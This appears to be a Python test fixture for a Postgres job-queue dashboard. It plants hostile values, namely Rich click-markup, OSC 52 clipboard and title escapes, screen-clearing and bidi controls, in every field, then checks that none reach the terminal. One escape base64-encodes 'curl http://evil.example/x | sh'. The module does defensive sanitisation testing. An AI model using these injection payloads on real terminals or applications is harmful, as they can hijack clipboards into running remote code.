"""Hostile values planted in every field queuetop shows, with real rows and real sessions.

The same text goes everywhere: Textual/Rich markup that runs an action when clicked
(`[@click=app.screenshot('pwned.svg', DIR)]Z[/]` writes a file the attacker names,
`[@click=app.quit]…` in a job id ends the dashboard) and terminal controls (OSC 52 sets
the clipboard, OSC 2 the title, CSI 2J clears the screen, a C1 CSI, a bidi override). A
screen or a command is safe when none of the controls reaches the terminal and the
markup shows as the text it is.
"""

from __future__ import annotations

import json
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

import psycopg
from psycopg import sql

# OSC 52 (clipboard: 'curl http://evil.example/x | sh'), OSC 2 (title), CSI 2J, C1 CSI, RLO
CONTROLS = (
    "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07\x1b]2;owned\x1b\\"
    "\x1b[2J\x9b2J\u202e"
)
RAW = ("\x1b", "\x9b", "\x07", "\u202e")  # none of these may reach the terminal
QUIT = "[@click=app.quit]Q[/]"
LOOKUP_ID = "[@click=app.quit]L[/]\x1b[2J\x9b2J\u202e4"
SCHEMA = "app"
# a table name with odd characters: markup, a bell, an escape
TABLE_NAME = "jobs[@click=app.quit]T[/]\x1b[2J"


def click(where: Path) -> str:
    """Markup that writes `where`/pwned.svg when its Z is clicked, if it were markup."""
    return f"[@click=app.screenshot('pwned.svg','{where}')]Z[/]"


@dataclass(frozen=True)
class Hostile:
    """What was planted, and where to look for its effects."""

    dsn: str
    spec_file: Path
    pwn_dir: Path  # a click on interpreted markup would write pwned.svg here
    text: str  # the hostile value (markup + controls) planted in every text field
    table: str  # the queue table, as a --table/--queue names it
    stale_id: str  # a running job past its lease, with a text id holding markup
    audited_id: str  # requeued while planting, with a hostile reason: the audit trail
    failed_id: str  # a failed job: the browser's first role
    lookup_id: str  # a failed job whose id has no separator (the look-up splits on ; and ,)
    idle_pid: int  # idle in transaction, holding the ready row 'r1' locked
    waiter_pid: int  # waiting for that row
    app_name: str  # the idle and waiting sessions' application_name

    @property
    def pwned(self) -> Path:
        return self.pwn_dir / "pwned.svg"


def table_sql(conn: psycopg.Connection) -> str:
    return sql.Identifier(SCHEMA, TABLE_NAME).as_string(conn)


def spec_toml(table: str) -> str:
    """The queue TOML (its table name with its odd characters, as TOML escapes them)."""
    return f"""
[queue]
table = {json.dumps(table)}
id = "id"
status = "status"
worker = "worker"
started_at = "started_at"
attempts = "attempts"
last_error = "last_error"
group = "queue"
payload = "payload"
created_at = "created_at"

[queue.states]
ready = ["ready"]
running = ["running"]
done = ["done"]
failed = ["failed"]
dead = ["dead"]

[queue.policy]
stale_after = "1 minute"
dead_letter = "status:dead"
"""


def plant(dsn: str, connect, background, tmp_path: Path) -> Hostile:
    """The hostile queue, its sessions (idle in transaction, waiting) and an audit record."""
    from helpers import is_waiting_on_lock, wait_until

    from dashboard.cli import main

    pwn_dir = tmp_path / "pwn"
    pwn_dir.mkdir()
    text = click(pwn_dir) + CONTROLS
    setup = connect(autocommit=True)
    setup.execute(sql.SQL("CREATE SCHEMA {}").format(sql.Identifier(SCHEMA)))
    table = table_sql(setup)
    setup.execute(
        f"""CREATE TABLE {table} (
            id text PRIMARY KEY, status text NOT NULL, worker text, started_at timestamptz,
            attempts int NOT NULL DEFAULT 0, last_error text, queue text, payload text,
            created_at timestamptz NOT NULL DEFAULT now() - interval '5 minutes')"""
    )
    stale_id, audited_id, failed_id = (
        f"{QUIT}{CONTROLS}1",
        f"[@click=app.quit]R[/]{CONTROLS}2",
        f"[@click=app.quit]F[/]{CONTROLS}3",
    )
    rows = [
        ("r1", "ready", None, None),
        ("r2", "ready", None, None),
        (stale_id, "running", "w" + text, "2000-01-01T00:00:00Z"),
        (audited_id, "running", "w" + text, "2000-01-01T00:00:00Z"),
        (failed_id, "failed", "w" + text, "2000-01-01T00:00:00Z"),
        (LOOKUP_ID, "failed", "w" + text, "2000-01-01T00:00:00Z"),
        ("s1", text, None, None),  # a status value no role claims: a warning
        ("d1", "done", None, None),
    ]
    for job_id, status, worker, started in rows:
        setup.execute(
            f"INSERT INTO {table} (id, status, worker, started_at, last_error, queue, payload) "
            "VALUES (%s, %s, %s, %s, %s, %s, %s)",
            (job_id, status, worker, started, text, "g" + text, text),
        )
    spec_file = tmp_path / "hostile.toml"
    spec_file.write_text(spec_toml(f'{SCHEMA}."{TABLE_NAME}"'))
    assert main(["init-audit", "--dsn", dsn]) == 0
    requeued = main(
        ["requeue", audited_id, "--reason", text, "--dsn", dsn, "--queue", str(spec_file)]
    )
    assert requeued == 0
    # a session idle in transaction holding r1, its last query (and name) hostile
    app_name = "[@click=app.quit]A[/]\x1b"  # the server keeps ASCII controls as they are
    idle = connect(application_name=app_name)
    idle.execute(f"SELECT id FROM {table} WHERE id = 'r1' FOR UPDATE /* {text} */")
    waiter = connect(application_name=app_name)
    waiter_pid = waiter.info.backend_pid
    background(
        lambda: waiter.execute(f"SELECT id FROM {table} WHERE id = 'r1' FOR UPDATE /* {text} */")
    )
    wait_until(lambda: is_waiting_on_lock(setup, waiter_pid))
    return Hostile(
        dsn=dsn,
        spec_file=spec_file,
        pwn_dir=pwn_dir,
        text=text,
        table=f'{SCHEMA}."{TABLE_NAME}"',
        stale_id=stale_id,
        audited_id=audited_id,
        failed_id=failed_id,
        lookup_id=LOOKUP_ID,
        idle_pid=idle.info.backend_pid,
        waiter_pid=waiter_pid,
        app_name=app_name,
    )


def assert_inert(text: str, where: str, shows: Iterable[str] = ()) -> None:
    """No terminal control in `text` (a command's output, a screen's characters), and each
    of `shows` there literally (markup shown as the text it is)."""
    for raw in RAW:
        assert raw not in text, f"{where}: {raw!r} reaches the terminal"
    for literal in shows:
        assert literal in text, f"{where}: {literal!r} not shown literally"
